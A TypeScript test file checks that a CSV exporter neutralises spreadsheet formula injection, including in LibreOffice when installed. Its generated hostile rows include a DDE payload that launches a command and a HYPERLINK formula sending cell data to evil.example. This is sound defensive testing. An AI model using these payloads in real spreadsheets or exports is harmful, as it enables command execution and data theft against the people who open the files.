import { execFileSync, spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { describe, expect, onTestFinished, test } from 'vitest'
import { csvLine, csvStart, safeCell } from './csv.ts'

/** Reads RFC 4180 strictly: quoted cells only, lines end with CRLF, nothing between a quote and the separator. */
function readCsv(text: string): string[][] {
  expect(text.startsWith('\ufeff')).toBe(true)
  const cell = /"((?:[^"]|"")*)"(,|\r\n)/y
  const rows: string[][] = []
  let row: string[] = []
  cell.lastIndex = 1
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex
    const [, content = '', end] = cell.exec(text) ?? []
    if (end === undefined) throw new Error(`no cell at ${at}: ${text.slice(at, at + 40)}`)
    row.push(content.replaceAll('""', '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

/** Reads leniently, as programs do with another separator: a cell is quoted only if it starts with a quote, and continues after it. */
function readWith(separator: string, text: string): string[] {
  const cells: string[] = []
  let at = text.startsWith('\ufeff') ? 1 : 0
  const ends = (sign: string | undefined) => sign === undefined || sign === separator || sign === '\r' || sign === '\n'
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at]
        else if (text[at + 1] === '"') cell += text[at++]
        else break
      }
      at++
    }
    for (; !ends(text[at]); at++) cell += text[at]
    cells.push(cell)
    at++
  }
  return cells
}

const signs = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '﹦', '﹢']
const before = ['', ' ', '   ', '"', "'", '""', ' "', '\u00a0', '\u200b', '\ufeff', '“', '\u202e', '"\u200b ']
const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"Klikk")', 'SUM(A1:A9)', '']
const after = [';=1+1', '\n=1+1', '\r\n+1+1\r\n', '\t@SUM(1)', '; "=1+1', '";=1+1;"', ',=1+1,', '\n＝1+1', '', '"']

const lists = [before, signs, bodies, after]
const combinations = lists.reduce((product, list) => product * list.length, 1)

/** Returns one of all combinations; neighbouring numbers have nothing in common. */
function combination(at: number): string[] {
  let rest = (at * 79) % combinations
  return lists.map((list) => {
    const part = list[rest % list.length] ?? ''
    rest = Math.floor(rest / list.length)
    return part
  })
}

/** Five hundred rows of everything that programs take for a formula. */
const hostile = Array.from({ length: 500 }, (_, at) => {
  const [start = '', sign = '', body = '', end = ''] = combination(at)
  const cell = `${start}${sign}${body}`
  return [`rad ${at}`, cell, `vanlig tekst${end}`, `${cell}${end}`, 'æøå ÆØÅ مرحبا 👍']
})
const file = csvStart + hostile.map(csvLine).join('')
/** Like every program, looks at the first character that is not skipped. */
const isFormula = (cell: string) => /^[\s\p{Cf}"]*[=+\-@＝＋－＠﹦﹢]|^[\t\r\n]/u.test(cell)

describe('a table of hostile rows', () => {
  test('begins with a BOM, ends its lines with CRLF, and keeps every character', () => {
    expect(Buffer.from(file).subarray(0, 3).toString('hex')).toBe('efbbbf')
    const rows = readCsv(file)
    expect(rows).toHaveLength(500)
    expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([5]))
    for (const [at, row] of rows.entries()) {
      expect(row.map((cell) => cell.replaceAll("'", ''))).toEqual(hostile[at]?.map((cell) => cell.replaceAll("'", '')))
      expect(row[4]).toBe('æøå ÆØÅ مرحبا 👍')
    }
  })

  test('has no cell that is a formula', () => {
    expect(hostile.flat().filter(isFormula).length).toBeGreaterThan(500)
    expect(readCsv(file).flat().filter(isFormula)).toEqual([])
  })

  test.each([';', '\t'])('has no formula for a program that separates by %j either', (separator) => {
    const naive =
      csvStart + hostile.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n')
    expect(readWith(separator, naive).filter(isFormula).length).toBeGreaterThan(50)
    expect(readWith(separator, file).filter(isFormula)).toEqual([])
  })
})

test('text that is not a formula stays unchanged', () => {
  for (const text of [
    '',
    'Hei!',
    'a = b',
    '3 - 2',
    'kari@example.no',
    "Ola's bil",
    '"sitat"',
    'æ\nø',
    '100 %',
    '(+47)',
  ])
    expect(safeCell(text)).toBe(text)
})

test('numbers with a sign become text too', () => {
  expect(safeCell('+47 912 34 567')).toBe("'+47 912 34 567")
  expect(safeCell('-5')).toBe("'-5")
  expect(safeCell('Liste:\n- én\n- to')).toBe("Liste:\n'- én\n'- to")
})

test('the longest texts take no time', () => {
  const started = performance.now()
  for (const piece of [' ', '"', ';', '; ', '\n', '\t ', '\u200b', "'"]) safeCell(piece.repeat(50_000))
  expect(performance.now() - started).toBeLessThan(1_000)
})

// A real spreadsheet program, where one is installed.

const program = ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version']).status === 0)

/** Opens the text in LibreOffice with formula detection; returns the cells as it reads them. */
function openInSpreadsheet(text: string, separator = ','): string {
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'samtur-csv-'))
  onTestFinished(() => fs.rmSync(folder, { recursive: true, force: true }))
  fs.writeFileSync(path.join(folder, 'table.csv'), text)
  // Separator, quote, UTF-8, from line 1, any columns, language, quoted is text: no, dates: yes, … formulas are evaluated.
  const filter = `CSV:${separator.charCodeAt(0)},34,76,1,,0,false,true,false,false,false,0,true`
  const profile = `-env:UserInstallation=file://${folder}/profile`
  const convert = ['--headless', profile, `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder]
  execFileSync(program ?? '', [...convert, path.join(folder, 'table.csv')], { stdio: 'pipe', timeout: 100_000 })
  return fs.readFileSync(path.join(folder, 'table.fods'), 'utf8')
}

const formula = /table:formula=/

// Skipped where it is missing: apt-get install libreoffice-calc-nogui
test.skipIf(!program)('LibreOffice, where it is installed, opens it without a formula', { timeout: 400_000 }, () => {
  // The program finds a formula in an unprotected file.
  expect(openInSpreadsheet('"a","=1+1"\r\n')).toMatch(formula)
  const opened = openInSpreadsheet(file)
  expect(opened).not.toMatch(formula)
  expect(opened).toContain('æøå ÆØÅ مرحبا 👍')
  expect(opened).toContain('rad 499')
  expect(openInSpreadsheet(file, ';')).not.toMatch(formula)
})
